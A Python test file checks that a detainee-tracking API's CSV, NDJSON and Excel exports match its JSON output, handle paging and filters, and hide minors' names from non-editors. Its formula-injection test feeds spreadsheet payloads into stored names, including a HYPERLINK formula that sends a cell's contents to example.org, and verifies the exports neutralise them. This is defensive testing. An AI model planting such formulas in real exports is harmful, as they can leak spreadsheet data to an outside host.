"""Lists and computed responses as CSV, NDJSON and workbooks have the same content as JSON."""

import csv
import io
import json
from typing import Any

import pytest

from api.database.queries import Connection
from tests.conftest import Api
from tests.rendering.lists import (
    LISTS,
    check_rows,
    csv_rows,
    insert_facilities,
    ndjson_rows,
    next_link,
    sent,
    walk,
    xlsx_rows,
)


@pytest.mark.parametrize("path", LISTS)
def test_list_has_the_same_items_in_every_format(example: Api, path: str) -> None:
    [person] = example.get("/v1/detainees", q="san miguel")["items"]
    path = path.format(id=person["id"])
    items = walk(example, path)
    assert items
    assert ndjson_rows(sent(example, path, format="ndjson")) == items
    check_rows(csv_rows(sent(example, path, format="csv")), items)
    assert ndjson_rows(sent(example, path, format="ndjson", limit=1)) == items[:1]
    check_rows(csv_rows(sent(example, path, format="csv", limit=1)), items[:1])


def test_computed_responses_have_rows(example: Api) -> None:
    [claim, *_] = example.get("/v1/claims", kind="released")["items"]
    [item] = [item for item in walk(example, "/v1/comparisons") if item["claim"] == claim]
    requests: list[tuple[str, dict[str, Any], str | None]] = [
        ("/v1/counts", {"as_of": "2026-01-09T16:00:00Z"}, None),
        ("/v1/counts", {"as_of": "2026-01-09T16:00:00Z", "group_by": "nationality"}, "groups"),
        ("/v1/counts/timeline", {"from": "2026-01-08", "until": "2026-01-10"}, "items"),
        (f"/v1/claims/{claim['id']}/comparison", {}, None),
    ]
    for path, query, name in requests:
        response = example.get(path, **query)
        rows = [response] if name is None else response[name]
        assert rows
        lines = sent(example, path, format="ndjson", **query)
        assert ndjson_rows(lines) == rows
        table = sent(example, path, format="csv", **query)
        check_rows(csv_rows(table), rows)
        link = f'<{response["citation"]["url"]}>; rel="cite-as"'
        assert {lines.headers["Link"], table.headers["Link"]} == {link}
    assert ndjson_rows(sent(example, path, format="ndjson")) == [item]


@pytest.mark.parametrize("many", [0, 1, 999, 1000, 1001, 2500])
def test_list_without_a_limit_is_sent_completely(api: Api, conn: Connection, many: int) -> None:
    insert_facilities(conn, many)
    stored = [row.name for row in conn.execute("SELECT name FROM facilities ORDER BY id")]
    rows = csv_rows(sent(api, "/v1/facilities", format="csv"))
    assert [row["name"] for row in rows] == stored
    lines = ndjson_rows(sent(api, "/v1/facilities", format="ndjson"))
    assert [line["name"] for line in lines] == stored
    check_rows(rows, lines)


def test_list_as_rows_takes_limit_and_cursor(api: Api, conn: Connection) -> None:
    insert_facilities(conn, 1500)
    items = walk(api, "/v1/facilities")
    cursor = api.get("/v1/facilities", limit=150)["next"]
    for format, read in (("csv", csv_rows), ("ndjson", ndjson_rows)):

        def ids(**query: Any) -> list[str]:
            return [row["id"] for row in read(sent(api, "/v1/facilities", **query))]  # noqa: B023

        for query, expected in (
            ({"limit": 200}, items[:200]),
            ({"limit": 7, "cursor": cursor}, items[150:157]),
            ({"cursor": cursor}, items[150:]),
        ):
            assert ids(format=format, **query) == [item["id"] for item in expected]


@pytest.mark.parametrize("format", ["csv", "ndjson"])
@pytest.mark.parametrize("path", LISTS)
def test_next_links_lead_through_all_rows_once(example: Api, path: str, format: str) -> None:
    read = csv_rows if format == "csv" else ndjson_rows
    [person] = example.get("/v1/detainees", q="san miguel")["items"]
    path = path.format(id=person["id"])
    all_rows = sent(example, path, format=format)
    assert "Link" not in all_rows.headers
    limit = 20 if path == "/v1/changes" else 2
    response = sent(example, path, format=format, limit=limit)
    rows, pages = [*read(response)], 1
    while (link := next_link(response)) is not None:
        assert len(rows) == pages * limit
        response = example.send("GET", link)
        rows, pages = [*rows, *read(response)], pages + 1
    assert rows == read(all_rows)
    assert pages == max(1, -(-len(rows) // limit))


def test_csv_for_excel_has_a_mark_and_semicolons(example: Api) -> None:
    plain = sent(example, "/v1/detainees", format="csv")
    for query in ({"format": "csv", "excel": "true", "_": "1736"}, {"excel": "true"}):
        for_excel = sent(example, "/v1/detainees", "text/csv", **query)
        assert for_excel.headers["Content-Type"] == plain.headers["Content-Type"]
        assert for_excel.headers["Content-Disposition"] == plain.headers["Content-Disposition"]
        assert for_excel.headers["ETag"] != plain.headers["ETag"]
        assert for_excel.data.startswith("\ufeffid;merged_into;name;".encode())
        text = io.StringIO(for_excel.data.decode("utf-8-sig"), newline="")
        assert list(csv.DictReader(text, delimiter=";", strict=True)) == csv_rows(plain)
    for format in ("json", "ndjson", "xlsx"):
        refused = sent(example, "/v1/detainees", format=format, excel="true")
        assert (refused.status_code, refused.get_json(force=True)["errors"][0]["pointer"]) == (
            422,
            "/excel",
        )


def test_next_links_keep_the_filters(example: Api) -> None:
    query = {"kind": "released", "limit": 1}
    response = sent(example, "/v1/claims", "text/csv", **query)
    rows = csv_rows(response)
    while "Link" in response.headers:
        url = response.headers["Link"].removeprefix("<").partition(">")[0]
        response = example.send("GET", url, headers={"Accept": "text/csv"})
        rows += csv_rows(response)
    check_rows(rows, walk(example, "/v1/claims", kind="released"))
    assert len(rows) > 1


def test_ledger_is_sent_completely_and_in_order(api: Api, conn: Connection) -> None:
    conn.execute("SET session_replication_role = replica")  # without the triggers
    conn.execute(
        "INSERT INTO ledger (seq, public_seq, recorded_at, resource, resource_id, action, entry) "
        "SELECT n, n, now(), 'facility', uuidv7(), 'created', '{}' FROM generate_series(1, 2345) n"
    )
    conn.execute("UPDATE ledger_head SET seq = 2345, public_seq = 2345, recorded_at = now()")
    lines = ndjson_rows(sent(api, "/v1/changes", format="ndjson"))
    assert [line["seq"] for line in lines] == [*range(1, 2346)]
    rows = csv_rows(sent(api, "/v1/changes", format="csv", after=1111))
    assert [row["seq"] for row in rows] == [str(n) for n in range(1112, 2346)]
    check_rows(rows, lines[1111:])


def test_filters_apply_to_rows(example: Api) -> None:
    [person] = example.get("/v1/detainees", q="pilieri")["items"]
    [claim, *_] = example.get("/v1/claims")["items"]
    for path, filter in (
        ("/v1/detainees", {"q": "pilieri"}),
        ("/v1/release-events", {"detainee_id": person["id"]}),
        ("/v1/claims", {"kind": "detained"}),
        ("/v1/claims", {"source_id": claim["source_id"]}),
        ("/v1/comparisons", {"kind": "detained", "age_group": "minor"}),
    ):
        items = walk(example, path, **filter)
        assert items
        assert ndjson_rows(sent(example, path, format="ndjson", **filter)) == items
        check_rows(csv_rows(sent(example, path, format="csv", **filter)), items)


def test_filters_apply_in_each_block(api: Api, conn: Connection) -> None:
    source = api.scope("edit").source("Puertas Abiertas")
    conn.execute(
        "INSERT INTO claims"
        " (source_id, kind, qualifier, as_of, published_at, relays, origins, value)"
        " SELECT %s, CASE n %% 2 WHEN 0 THEN 'released' ELSE 'detained' END, 'exact',"
        " '2026-01-09', '2026-01-09', '[]', '[]', n FROM generate_series(1, 4200) n",
        [source],
    )
    lines = ndjson_rows(sent(api, "/v1/claims", format="ndjson", kind="detained"))
    assert sorted(line["value"] for line in lines) == [*range(1, 4200, 2)]
    # Comparisons are in another order, block by block.
    lines = ndjson_rows(sent(api, "/v1/comparisons", format="ndjson", kind="detained"))
    assert sorted(line["claimed"] for line in lines) == [*range(1, 4200, 2)]
    ids = [line["claim"]["id"] for line in lines]
    assert ids == sorted(ids, reverse=True)


def test_editor_sees_the_name_of_a_minor_in_rows(api: Api) -> None:
    editor = api.scope("edit")
    editor.detainee("Lucero Canario", age_group="minor", birth_date="2011-05-04")
    editor.detainee("Fermín Otero")
    columns = xlsx_rows(sent(editor, "/v1/detainees", format="xlsx"))
    assert "Lucero Canario" in [row["name"] for row in columns]
    columns = xlsx_rows(sent(api, "/v1/detainees", format="xlsx"))
    assert "Fermín Otero" in [row["name"] for row in columns]
    assert "Lucero" not in str(columns)
    assert "2011" not in str(columns)
    for format in ("csv", "ndjson"):
        assert "Lucero" in sent(editor, "/v1/detainees", format=format).get_data(as_text=True)
        for caller in (api, api.scope("contribute")):
            text = sent(caller, "/v1/detainees", format=format).get_data(as_text=True)
            assert "Otero" in text
            assert "Lucero" not in text
            assert "2011" not in text


# Formula injection.

DANGEROUS = "=+-@＝＋－＠\t\r\n\0"  # noqa: RUF001 - full-width on purpose
NAMES = [
    "=1+1",
    "+58 212",
    "-1",
    "@SUM(1;2)",
    "＝1+1",  # noqa: RUF001
    "－",  # noqa: RUF001
    "'=1+1",
    "''twice",
    "'La Tumba'",
    '=HYPERLINK("http://example.org/?"&A1,"a,b")',
    '"quoted", and more',
    "1,5;2",
    "-",
    "0123",
    "null",
    "سجن",
]


def test_formula_in_a_name_survives_csv_and_a_workbook(api: Api) -> None:
    editor = api.scope("edit")
    facilities: list[str] = []
    for name in NAMES:
        body: dict[str, Any] = {"name": name, "aliases": [f"{name} 2"], "country": "VE"}
        body |= {"region": name, "distinct_from": facilities}
        facilities.append(editor.post("/v1/facilities", body)["id"])
        editor.detainee(name, aliases=[f"{name} 2"], occupation=name)
        editor.source(name)
    notes = ["-\n=1+1\n\t@a", "=1\t+1", "a\n\n'b"]
    source = editor.source("Correo")
    for note in notes:
        body = {"source_id": source, "kind": "released", "note": note}
        at = "2026-01-09T10:00:00Z"
        editor.post("/v1/claims", {**body, "as_of": at, "published_at": at})

    for path, column, texts in (
        ("/v1/facilities", "name", NAMES),
        ("/v1/facilities", "region", NAMES),
        ("/v1/detainees", "name", NAMES),
        ("/v1/detainees", "occupation", NAMES),
        ("/v1/sources", "name", [*NAMES, "Correo"]),
        ("/v1/claims", "note", notes),
        ("/v1/comparisons", "claim.note", notes),
    ):
        sheet = xlsx_rows(sent(api, path, format="xlsx"))
        assert sorted(row[column] for row in sheet) == sorted(texts)
        rows = csv_rows(sent(api, path, format="csv"))
        assert sorted(row[column].removeprefix("'") for row in rows) == sorted(texts)
        for row in rows:
            for cell in row.values():
                assert not cell.lstrip().startswith(tuple(DANGEROUS)), cell
                assert not cell.startswith(tuple(DANGEROUS)), cell
    aliases = [
        json.loads(row["aliases"]) for row in csv_rows(sent(api, "/v1/facilities", format="csv"))
    ]
    assert sorted(aliases) == sorted([f"{name} 2"] for name in NAMES)
